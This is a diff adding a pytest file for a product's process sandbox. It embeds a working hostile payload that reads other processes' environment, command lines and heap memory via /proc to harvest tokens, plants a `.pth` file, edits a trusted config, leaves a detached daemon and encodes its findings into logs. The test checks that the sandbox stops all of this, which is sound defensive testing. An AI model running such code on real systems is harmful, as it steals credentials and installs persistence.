@@ -1,0 +1,327 @@
+"""Code under test in production's process shape: a Celery main exec'd with every secret, a
+pool process (Airflow's supervisor) forked from it holding a token on its heap, the task runner
+forked from that, and, launched by the task runner through the product's own functions, a
+hostile `vllm` and a hostile pull request's build backend.
+
+The hostile code reads every process it can see (environ, cmdline, heap through /proc/PID/mem),
+tries to plant a `.pth` in the worker's venv and to edit the trusted config, leaves a `setsid`
+daemon, and prints what it found base64-encoded, so the text travels on in the errors. With the
+sandbox, it finds nothing, writes nothing and leaves nothing alive; with `OMNI_SANDBOX=none` the
+same code finds the secrets (so the test can fail)."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import subprocess
+import sys
+import textwrap
+import time
+import uuid
+from pathlib import Path
+
+SECRETS = {
+    "OMNI_SLACK_TOKEN": "xoxb-PLANTED-slack-5a9d0c1e",
+    "OMNI_GITHUB_TOKEN": "ghp_PLANTEDgithubToken5a9d0c1e77",
+    "AIRFLOW__CELERY__BROKER_URL": "redis://:PLANTEDbrokerPass5a9d@redis:6379/0",
+    "OMNI_DATABASE_URL": "postgresql://omni:PLANTEDdbPass5a9d@db/omni",
+}
+VALUES = (
+    "xoxb-PLANTED-slack-5a9d0c1e",
+    "ghp_PLANTEDgithubToken5a9d0c1e77",
+    "PLANTEDbrokerPass5a9d",
+    "PLANTEDdbPass5a9d",
+)
+HEAP_MARKER = "PLANTED-execution-api-token-5a9d0c1e"  # the supervisor's heap, not its environ
+
+# The hostile payload: stdlib only, self-contained (it runs wherever it was launched).
+HOSTILE = r"""
+import base64, json, os, subprocess, sys, time
+WANTED = json.loads(os.environ.get("HOSTILE_WANTED", "[]")) or WANTED_DEFAULT
+found, wrote = [], []
+for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    for name in ("environ", "cmdline"):
+        try:
+            data = open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace")
+        except OSError:
+            continue
+        found += [w for w in WANTED if w in data]
+    try:
+        maps = open(f"/proc/{pid}/maps").read().splitlines()
+        with open(f"/proc/{pid}/mem", "rb") as mem:
+            for line in maps:
+                if line.endswith("[heap]"):
+                    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
+                    mem.seek(lo)
+                    heap = mem.read(min(hi - lo, 256 << 20))
+                    found += [w for w in WANTED if w.encode() in heap]
+    except (OSError, ValueError):
+        pass
+for target in TARGETS:
+    try:
+        with open(target, "a") as f:
+            f.write("# planted by hostile code\n")
+        wrote.append(target)
+    except OSError:
+        pass
+daemon = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", DAEMON_TAG],
+                          start_new_session=True, stdin=subprocess.DEVNULL,
+                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+report = json.dumps({"found": sorted(set(found)), "wrote": wrote, "daemon": daemon.pid})
+print("HOSTILE " + base64.b64encode(report.encode()).decode(), flush=True)
+print("HOSTILE-HEX " + report.encode().hex(), flush=True)
+sys.stderr.write(report + "\n")
+"""
+
+
+def _payload(tmp: Path, targets: list[Path]) -> str:
+    return (
+        f"WANTED_DEFAULT = {json.dumps([*VALUES, HEAP_MARKER])}\n"
+        f"TARGETS = {json.dumps([str(t) for t in targets])}\n"
+        f"DAEMON_TAG = {json.dumps(_daemon_tag(tmp))}\n" + HOSTILE
+    )
+
+
+def _daemon_tag(tmp: Path) -> str:
+    return f"hostile-daemon-{tmp.name}"
+
+
+def _hostile_vllm(tmp: Path, targets: list[Path]) -> Path:
+    bin_dir = tmp / "bin"
+    bin_dir.mkdir()
+    exe = bin_dir / "vllm"
+    exe.write_text(f"#!{sys.executable}\n{_payload(tmp, targets)}\nsys.exit(3)\n")
+    exe.chmod(0o755)
+    return bin_dir
+
+
+def _hostile_repo(tmp: Path, targets: list[Path]) -> tuple[Path, str]:
+    """A pull request whose in-tree build backend attacks, then fails the build."""
+    repo = tmp / "pr-head"
+    repo.mkdir()
+    (repo / "pyproject.toml").write_text(
+        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+        '[project]\nname = "hostile"\nversion = "1"\n'
+    )
+    (repo / "backend.py").write_text(
+        "def _attack():\n"
+        + textwrap.indent(_payload(tmp, targets) + "\nraise SystemExit('build failed')\n", "    ")
+        + "\ndef get_requires_for_build_wheel(config_settings=None):\n    _attack()\n"
+        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
+        "    _attack()\n"
+    )
+    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
+    subprocess.run([*git, "init", "-q"], check=True)
+    subprocess.run([*git, "add", "."], check=True)
+    subprocess.run([*git, "commit", "-q", "-m", "pr"], check=True)
+    head = subprocess.run(
+        [*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True
+    ).stdout.strip()
+    return repo, head
+
+
+# The task runner: the product's launches, with their errors written out as they would travel.
+TASK = r"""
+import json, sys
+from pathlib import Path
+from omni_tasks.environments import EnvironmentBuildError
+from omni_tasks.environments.venv import VenvStrategy
+from omni_tasks.synthesis.server import ServerSpec, ServerStartError, launched
+tmp, repo, head, config = Path(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
+errors = []
+spec = ServerSpec(python=sys.executable, model="m", log_path=tmp / "logs" / "server.log",
+                  startup_timeout_s=60, env={"OMNI_NIGHTLY_CONFIG": config})
+try:
+    with launched(spec):
+        pass
+except ServerStartError as exc:
+    errors.append(str(exc))
+try:
+    VenvStrategy(repo, tmp / "envs").prepare(head)
+except EnvironmentBuildError as exc:
+    errors.append(str(exc))
+(tmp / "errors.json").write_text(json.dumps(errors))
+"""
+
+# The Celery main (exec'd with the secrets, never sealed), its pool process holding a token on
+# its heap, and the task runner forked from that.
+SHAPE = r"""
+import os, sys
+heap = bytearray(b"{marker}" * 4)  # the supervisor's heap holds the task's token
+pid = os.fork()
+if pid == 0:
+    runner = os.fork()
+    if runner == 0:
+        sys.argv = ["task"] + sys.argv[1:]
+        exec(compile(open(os.environ["TASK_FILE"]).read(), "task", "exec"))
+        os._exit(0)
+    _, status = os.waitpid(runner, 0)
+    os._exit(os.waitstatus_to_exitcode(status))
+_, status = os.waitpid(pid, 0)
+sys.exit(os.waitstatus_to_exitcode(status))
+""".replace("{marker}", HEAP_MARKER)
+
+
+def _encodings(value: str) -> list[str]:
+    """The value plain, hex, and base64 at each of the three offsets a longer text can put it."""
+    raw = value.encode()
+    forms = [value, raw.hex()]
+    for pad in range(3):
+        enc = base64.b64encode(b"x" * pad + raw).decode()
+        forms.append(enc[(pad * 8 + 5) // 6 : ((pad + len(raw)) * 8) // 6])  # the value's own
+    return forms
+
+
+def _leaks(text: str) -> list[str]:
+    return [v for v in [*VALUES, HEAP_MARKER] if any(f in text for f in _encodings(v))]
+
+
+def _cmdline(proc: Path) -> str:
+    try:
+        return (proc / "cmdline").read_bytes().decode(errors="replace")
+    except OSError:
+        return ""
+
+
+def _cmdline(proc: Path) -> str:
+    try:
+        return (proc / "cmdline").read_bytes().decode(errors="replace")
+    except OSError:
+        return ""
+
+
+def _attack(tmp: Path, sandbox: str) -> tuple[list[dict[str, object]], list[str], list[Path]]:
+    """Run the process shape once; returns the hostile reports, the errors the product raised,
+    and the targets it tried to write."""
+    worker_pth = Path(sys.prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}"
+    worker_pth = worker_pth / "site-packages" / f"omni-hostile-{uuid.uuid4().hex[:8]}.pth"
+    config = tmp / "srv-omni" / "nightly.yaml"
+    config.parent.mkdir()
+    config.write_text("version: 2\n")
+    targets = [worker_pth, config]
+    bin_dir = _hostile_vllm(tmp, targets)
+    repo, head = _hostile_repo(tmp, targets)
+    (tmp / "task.py").write_text(TASK)
+    env = {
+        **{k: v for k, v in os.environ.items() if not k.startswith(("OMNI_", "AIRFLOW"))},
+        **SECRETS,
+        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
+        "OMNI_SANDBOX": sandbox,
+        "OMNI_HOME": str(tmp / "home"),
+        "TASK_FILE": str(tmp / "task.py"),
+    }
+    try:
+        subprocess.run(
+            [sys.executable, "-c", SHAPE, str(tmp), str(repo), head, str(config)],
+            env=env,
+            check=True,
+            timeout=300,
+        )
+        time.sleep(0.5)
+        # What the hostile code printed reached the server's and the build's logs.
+        reports = [
+            json.loads(bytes.fromhex(line.split("HOSTILE-HEX ", 1)[1].strip()))
+            for path in tmp.rglob("*.log")
+            for line in path.read_text(errors="replace").splitlines()
+            if "HOSTILE-HEX " in line
+        ]
+        errors = json.loads((tmp / "errors.json").read_text())
+        alive = [
+            int(p.name)
+            for p in Path("/proc").iterdir()
+            if p.name.isdigit() and _daemon_tag(tmp) in _cmdline(p)
+        ]
+        for pid in alive:
+            os.kill(pid, 9)
+        return [*reports, {"alive": alive}], errors, targets
+    finally:
+        written = worker_pth.exists()
+        worker_pth.unlink(missing_ok=True)  # never leave a .pth in the test's own venv
+        if written:
+            reports_note = tmp / "pth-written"
+            reports_note.write_text("yes")
+
+
+def test_code_under_test_finds_no_secret_writes_nothing_and_leaves_nothing(
+    tmp_path: Path,
+) -> None:
+    reports, errors, targets = _attack(tmp_path, "bwrap")
+    *hostile, alive = reports
+    assert len(hostile) == 2, hostile  # the server and the build both ran their attack
+    for report in hostile:
+        assert report["found"] == [], report
+        assert report["wrote"] == [], report
+    assert alive == {"alive": []}
+    assert not (tmp_path / "pth-written").exists()
+    assert (tmp_path / "srv-omni" / "nightly.yaml").read_text() == "version: 2\n"
+    assert len(errors) == 2 and "server log:" in errors[0] and "build log:" in errors[1]
+    # Nothing planted in what travels on, nor in any file the run left (logs included).
+    assert _leaks("\n".join(errors)) == []
+    for path in tmp_path.rglob("*"):
+        attack = {"pr-head", "src", "bin", "task.py"} & set(path.relative_to(tmp_path).parts)
+        if path.is_file() and not attack:  # not the attack's own text
+            assert _leaks(path.read_text(errors="replace")) == [], path
+    assert targets[1].read_text() == "version: 2\n"
+
+
+def test_without_the_sandbox_the_same_code_finds_every_secret(tmp_path: Path) -> None:
+    """The same attack with OMNI_SANDBOX=none: it reads the ancestors' secrets and the
+    supervisor's heap, writes the trusted config and leaves its daemon (so the test above
+    can fail)."""
+    reports, _, _ = _attack(tmp_path, "none")
+    *hostile, alive = reports
+    found = {v for r in hostile for v in r["found"]}  # type: ignore[union-attr]
+    assert set(VALUES) <= found and HEAP_MARKER in found
+    assert any(r["wrote"] for r in hostile)
+    assert alive["alive"]
+
+
+def test_seal_works_under_a_distributions_python(tmp_path: Path) -> None:
+    """Debian's /usr/bin/python3.11 defines `environ` by copy relocation: seal() must scrub the
+    block /proc shows there too (CDLL("libc.so.6") read a NULL pointer)."""
+    system = Path("/usr/bin/python3.11")
+    assert system.is_file(), "make test installs Debian's python3.11 (.ci/system-deps)"
+    code = (
+        "from omni_tasks.trust.child_env import seal; import os, json; seal(); "
+        "print(json.dumps([open('/proc/self/environ','rb').read().decode(errors='replace'), "
+        "os.environ['OMNI_SLACK_TOKEN']]))"
+    )
+    out = subprocess.run(
+        [str(system), "-I", "-c", f"import sys; sys.path.insert(0, {str(Path.cwd())!r}); {code}"],
+        env={"PATH": "/usr/bin:/bin", **SECRETS},
+        capture_output=True,
+        text=True,
+        check=True,
+        cwd=Path(__file__).resolve().parents[2],
+    )
+    block, still = json.loads(out.stdout)
+    assert still == SECRETS["OMNI_SLACK_TOKEN"]  # the process itself still reads it
+    assert _leaks(block) == []  # /proc/self/environ does not
+
+
+def test_doctor_says_what_is_missing(tmp_path: Path) -> None:
+    cli = Path(sys.executable).parent / "omni-tasks"
+    ok = subprocess.run([str(cli), "doctor", "sandbox", "--json"], capture_output=True, text=True)
+    assert ok.returncode == 0, ok.stderr
+    shown = json.loads(ok.stdout)
+    assert shown["mode"] == "bwrap" and "bubblewrap" in shown["version"]
+    assert shown["checked"]["pids"] <= 3
+    # bwrap not on PATH: refused, naming it.
+    env = {**os.environ, "PATH": str(tmp_path)}
+    missing = subprocess.run(
+        [str(cli), "doctor", "sandbox"], capture_output=True, text=True, env=env
+    )
+    assert missing.returncode != 0 and "bubblewrap (`bwrap`) is not on PATH" in missing.stderr
+    # bwrap present but unable to make its namespaces: refused, naming that.
+    fake = tmp_path / "bwrap"
+    fake.write_text(
+        "#!/bin/sh\n[ \"$1\" = --version ] && echo 'bubblewrap 0.8.0' && exit 0\n"
+        "echo 'bwrap: No permissions to creating new namespace' >&2; exit 1\n"
+    )
+    fake.chmod(0o755)
+    env["PATH"] = f"{tmp_path}{os.pathsep}/usr/bin:/bin"
+    broken = subprocess.run(
+        [str(cli), "doctor", "sandbox"], capture_output=True, text=True, env=env
+    )
+    assert broken.returncode != 0 and "cannot create its namespaces" in broken.stderr
